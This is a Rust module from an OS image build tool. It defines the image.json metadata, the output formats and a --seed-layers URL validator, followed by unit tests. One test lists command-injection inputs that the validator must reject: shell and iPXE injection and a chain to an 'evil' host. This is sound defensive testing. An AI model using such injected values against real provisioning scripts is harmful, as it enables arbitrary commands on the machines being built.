//! `image.json` and the build options it records: the one type that
//! [`super::assemble`] writes and `verify` reads back, the one [`Format`]
//! enum (`--format`, image.json, the output layout) and [`SeedLayers`]
//! (`--seed-layers`). The JSON form is canonical (sorted keys); its bytes are
//! part of every node's SHA256SUMS, so fields are only ever added with care.

use std::collections::BTreeMap;
use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use crate::layer::BuiltLayer;
use crate::manifest::{Arch, BASE_ROLE};
use crate::pgzip::Compression;
use crate::plan::{LayerKind, OS_LAYER, OS_PACKAGES_LAYER, TargetKind};

/// One output format (`--format`).
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    clap::ValueEnum,
)]
#[serde(rename_all = "kebab-case")]
pub enum Format {
    /// layers/NN-<name>.tar.gz, image.json, SHA256SUMS
    Layers,
    /// cloud-init/{user-data,meta-data,network-config,seed.iso} (and layers.iso with
    /// --seed-layers volume)
    CloudInit,
    /// pxe/: boot.ipxe, segments/, and vmlinuz, initrd.cpio.gz and
    /// secrets.cpio.gz (with a base OS) or overlay.cpio.gz (for a
    /// distribution's initrd)
    Pxe,
    /// oci/: the node image as an OCI image layout
    Oci,
    /// disk/: with a base OS, a bootable GPT disk for virtual machines:
    /// disk.qcow2 over base.qcow2, the disk its role's nodes share
    Disk,
    /// disk/disk.raw: the same disk whole, for writing to a machine's disk
    DiskRaw,
}

impl Format {
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Layers => "layers",
            Format::CloudInit => "cloud-init",
            Format::Pxe => "pxe",
            Format::Oci => "oci",
            Format::Disk => "disk",
            Format::DiskRaw => "disk-raw",
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The formats asked for: a set, kept in [`Format`]'s order.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Formats(Vec<Format>);

impl Formats {
    pub fn new(list: &[Format]) -> Formats {
        let mut v = list.to_vec();
        v.sort_unstable();
        v.dedup();
        Formats(v)
    }

    pub fn has(&self, f: Format) -> bool {
        self.0.contains(&f)
    }

    pub fn iter(&self) -> impl Iterator<Item = Format> + '_ {
        self.0.iter().copied()
    }
}

/// Where cloud-init gets the shared layers from (`--seed-layers`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SeedLayers {
    /// Every layer is in seed.iso.
    Embed,
    /// Base and role layers come from `BASE/sha256/<digest>.tar.gz`; the
    /// node and secrets layers stay in the seed.
    Url(String),
    /// Base and role layers come from a second volume beside the seed,
    /// `layers.iso` (label `imglayers`), the same file for every node of
    /// the same shared layers; the node and secrets layers stay in the seed.
    Volume,
}

/// `--seed-layers` that is neither `embed`, `volume` nor `url=BASE`.
#[derive(Debug, thiserror::Error)]
#[error(
    "`{0}` is neither `embed`, `volume` nor `url=BASE` with an http(s) BASE of a host and a path in letters, digits and ._~/:%@+=,-"
)]
pub struct BadSeedLayers(pub String);

impl SeedLayers {
    /// Whether a layer stays out of the node's seed: a shared one, fetched
    /// from BASE (url mode) or read from the layers volume (volume mode).
    pub fn remote(&self, l: &BuiltLayer) -> bool {
        !matches!(self, SeedLayers::Embed) && l.kind.is_shared()
    }

    /// BASE in url mode.
    pub fn base(&self) -> Option<&str> {
        match self {
            SeedLayers::Url(b) => Some(b),
            SeedLayers::Embed | SeedLayers::Volume => None,
        }
    }
}

impl FromStr for SeedLayers {
    type Err = BadSeedLayers;

    fn from_str(s: &str) -> Result<SeedLayers, BadSeedLayers> {
        match s {
            "embed" => return Ok(SeedLayers::Embed),
            "volume" => return Ok(SeedLayers::Volume),
            _ => {}
        }
        // BASE goes into a root shell script and into boot.ipxe: only a
        // plain URL, in characters neither can misread
        let base = s.strip_prefix("url=").map(|b| b.trim_end_matches('/'));
        let host = base.and_then(|b| {
            b.strip_prefix("http://")
                .or_else(|| b.strip_prefix("https://"))
        });
        match (base, host) {
            (Some(base), Some(host))
                if !host.is_empty()
                    && !host.starts_with('/')
                    && crate::quote::is_ipxe_safe(base)
                    && !base.contains('%') =>
            {
                Ok(SeedLayers::Url(base.to_string()))
            }
            _ => Err(BadSeedLayers(s.to_string())),
        }
    }
}

impl fmt::Display for SeedLayers {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SeedLayers::Embed => f.write_str("embed"),
            SeedLayers::Volume => f.write_str("volume"),
            SeedLayers::Url(b) => write!(f, "url={b}"),
        }
    }
}

impl Serialize for SeedLayers {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for SeedLayers {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<SeedLayers, D::Error> {
        let s = String::deserialize(d)?;
        s.parse().map_err(serde::de::Error::custom)
    }
}

/// `image.json`: what the node image is and what it was built from.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ImageJson {
    pub node: String,
    pub kind: TargetKind,
    pub cluster: String,
    pub roles: Vec<String>,
    pub arch: Arch,
    pub versions: BTreeMap<String, String>,
    pub source_date_epoch: i64,
    pub services: Vec<String>,
    pub layers: Vec<LayerJson>,
    pub inputs: Vec<InputJson>,
    /// How it was built, so `verify --rebuild` can do the same.
    pub build: BuildJson,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BuildJson {
    pub formats: Formats,
    pub seed_layers: SeedLayers,
    /// `--compression` (absent for gzip, as before it existed).
    #[serde(default, skip_serializing_if = "Compression::is_gzip")]
    pub compression: Compression,
    /// The version of imgbuild that wrote it.
    pub imgbuild: String,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LayerJson {
    /// `NN-<os|os-packages|base|role|node|secrets>`, the file stem.
    pub name: String,
    pub file: String,
    pub digest: String,
    pub size: u64,
    pub diff_id: String,
}

impl LayerJson {
    /// The layer's kind. It is not a field of its own: the name says it
    /// (`NN-os`, `NN-os-packages`, `NN-base`, `NN-node`, `NN-secrets`, else
    /// a role), since those names are reserved and no role may take them.
    pub fn kind(&self) -> LayerKind {
        let stem = self.name.split_once('-').map_or("", |(_, s)| s);
        match stem {
            OS_LAYER => LayerKind::Os,
            OS_PACKAGES_LAYER => LayerKind::OsPackages,
            BASE_ROLE => LayerKind::Base,
            "node" => LayerKind::Node,
            "secrets" => LayerKind::Secrets,
            _ => LayerKind::Role,
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct InputJson {
    pub artifact: String,
    pub version: String,
    pub url: String,
    pub checksum: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seed_layers_round_trip_through_their_text() {
        for s in ["embed", "volume", "url=http://10.0.0.1/layers"] {
            assert_eq!(s.parse::<SeedLayers>().unwrap().to_string(), s);
        }
        assert_eq!(
            "url=https://h/x/".parse::<SeedLayers>().unwrap(),
            SeedLayers::Url("https://h/x".into())
        );
        assert!("url=ftp://h".parse::<SeedLayers>().is_err());
        for hostile in [
            "url=http://h/x';reboot;'",
            "url=http://h/$(id)",
            "url=http://h/${net0/ip}",
            "url=http://h/a b",
            "url=http://h/a\nchain http://evil/",
            "url=http:///path",
            "url=http://",
        ] {
            assert!(hostile.parse::<SeedLayers>().is_err(), "{hostile}");
        }
        assert!("embedded".parse::<SeedLayers>().is_err());
    }

    #[test]
    fn formats_keep_one_order_whatever_was_typed() {
        let f = Formats::new(&[Format::Oci, Format::Layers, Format::Oci]);
        assert!(f.has(Format::Layers) && f.has(Format::Oci) && !f.has(Format::Pxe));
        assert_eq!(
            serde_json::to_string(&f).unwrap(),
            r#"["layers","oci"]"#.to_string()
        );
    }

    #[test]
    fn a_layer_kind_is_read_from_its_name() {
        let l = |name: &str| LayerJson {
            name: name.into(),
            file: String::new(),
            digest: String::new(),
            size: 0,
            diff_id: String::new(),
        };
        assert_eq!(l("00-os").kind(), LayerKind::Os);
        assert_eq!(l("01-os-packages").kind(), LayerKind::OsPackages);
        assert_eq!(l("00-base").kind(), LayerKind::Base);
        assert_eq!(l("02-control-plane").kind(), LayerKind::Role);
        assert_eq!(l("04-node").kind(), LayerKind::Node);
        assert_eq!(l("05-secrets").kind(), LayerKind::Secrets);
        assert_eq!(l("00-os").kind(), LayerKind::Os);
        assert_eq!(l("01-os-packages").kind(), LayerKind::OsPackages);
    }
}
